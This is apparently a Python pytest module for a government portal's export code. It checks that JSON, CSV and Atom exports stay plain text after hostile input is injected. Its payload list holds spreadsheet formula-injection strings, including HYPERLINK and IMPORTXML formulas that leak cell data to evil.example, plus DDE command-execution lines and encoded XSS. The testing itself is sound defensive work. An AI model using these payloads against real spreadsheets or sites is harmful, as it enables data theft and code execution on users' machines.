"""Machine-readable files from hostile data, read back as a consumer would.

Every free-text field of the complete case gets a markup, entity or spreadsheet-formula
payload (decided by the model, :mod:`tests.security.inject`; the data rules that would
refuse them are not asked). The exports and the lock file's facts are then read with the
standard library's JSON, CSV and XML parsers, and every value is judged as a consumer that
prints it as HTML, or opens the CSV in a spreadsheet, would see it.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import shutil
import xml.etree.ElementTree as ET

import pytest
import yaml

from govportal import pipeline
from govportal.changes.facts import facts_of
from govportal.publish import exports
from govportal.publish.site_readings import json_strings
from govportal.rules import registry
from tests.conftest import CASES
from tests.security.inject import inject
from tests.security.payloads import XSS_PAYLOADS
from tests.security.scan import scan_html

OPTIONS = registry.Options(today=dt.date(2026, 11, 22))
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=", A1), "//a")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;svg onload=alert(1)&amp;gt;",
    "&#60;iframe src=https://evil.example&#62;&#60;/iframe&#62;",
]
PAYLOADS = FORMULA_PAYLOADS + XSS_PAYLOADS
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, str], list[str]]:
    data = tmp_path_factory.mktemp("exports") / "data"
    shutil.copytree(CASES / "valid" / "complete", data)
    counts = inject(data, PAYLOADS)
    assert sum(counts.values()) > 200
    # A formula where every export shows it: the program's title, a retention record type.
    for name, key, value in (("programs/learning.yaml", "title", FORMULA_PAYLOADS[0]),
                             ("retention.yaml", "record_type", FORMULA_PAYLOADS[1])):
        path = data / name
        loaded = yaml.safe_load(path.read_text(encoding="utf-8"))
        target = loaded if key == "title" else loaded["rules"][0]
        target[key] = value
        path.write_text(yaml.safe_dump(loaded, allow_unicode=True, sort_keys=False),
                        encoding="utf-8")
    result = pipeline.check(data, OPTIONS)
    assert result.policy.complete
    pages = {p.src_uri: p for p in pipeline.build_pages(result.policy, OPTIONS)}
    files = exports.all_exports(result.policy, pages, "https://portal.example.com/", "Portal")
    facts = [facts_of(result.policy, p).model_dump_json() for p in
             result.policy.programs.values()]
    return files, facts


def markup_in(text: str) -> list[str]:
    """What a consumer printing ``text`` as HTML would get as markup, also after decoding
    its entities once more (as a careless consumer would)."""
    found = []
    for view in (text, html.unescape(text)):
        scan = scan_html(view)
        found += sorted(scan.tags) + scan.handlers + scan.bad_urls
    return found


def test_the_payloads_reached_the_exports(hostile: tuple[dict[str, str], list[str]]) -> None:
    files, _ = hostile
    everything = "".join(files.values())
    assert "HYPERLINK" in everything and "alert(1)" in everything


@pytest.mark.parametrize("name", ["notices.json", "retention.json", "coverage.json"])
def test_json_exports_hold_plain_text_only(hostile: tuple[dict[str, str], list[str]],
                                           name: str) -> None:
    strings = list(json_strings(json.loads(hostile[0][name])))
    assert len(strings) > 20
    assert [(s, markup_in(s)) for s in strings if markup_in(s)] == []


def test_the_lock_facts_hold_plain_text_only(hostile: tuple[dict[str, str], list[str]]) -> None:
    strings = [s for facts in hostile[1] for s in json_strings(json.loads(facts))]
    assert len(strings) > 10
    assert [(s, markup_in(s)) for s in strings if markup_in(s)] == []


@pytest.mark.parametrize("name", ["ropa.csv", "retention.csv"])
def test_csv_cells_are_plain_and_never_formulas(hostile: tuple[dict[str, str], list[str]],
                                                name: str) -> None:
    rows = list(csv.reader(io.StringIO(hostile[0][name])))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) > 1 and cells
    assert [c for c in cells if c.lstrip(" ").startswith(FORMULA)] == []
    assert [(c, markup_in(c)) for c in cells if markup_in(c)] == []
    assert any(c.startswith("'=HYPERLINK(") or c.startswith("'=cmd|") for c in cells)
    assert all(line.startswith('"') for line in hostile[0][name].splitlines())  # all quoted


def test_the_atom_feed_holds_plain_text_only(hostile: tuple[dict[str, str], list[str]]) -> None:
    root = ET.fromstring(hostile[0]["notices.atom"])
    texts = [el.text for el in root.iter() if el.text and el.text.strip()]
    assert len(texts) > 5
    assert [(t, markup_in(t)) for t in texts if markup_in(t)] == []


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("  =1", "'=1"),
    ("Plain words", "Plain words"), ("a = b", "a = b"), (90, "90"), (True, "true"),
    (["=x", "y"], "'=x; y"), ("<b>bold</b>", "bold"),
])
def test_one_csv_cell(value: object, cell: str) -> None:
    assert exports.csv_cell(value) == cell
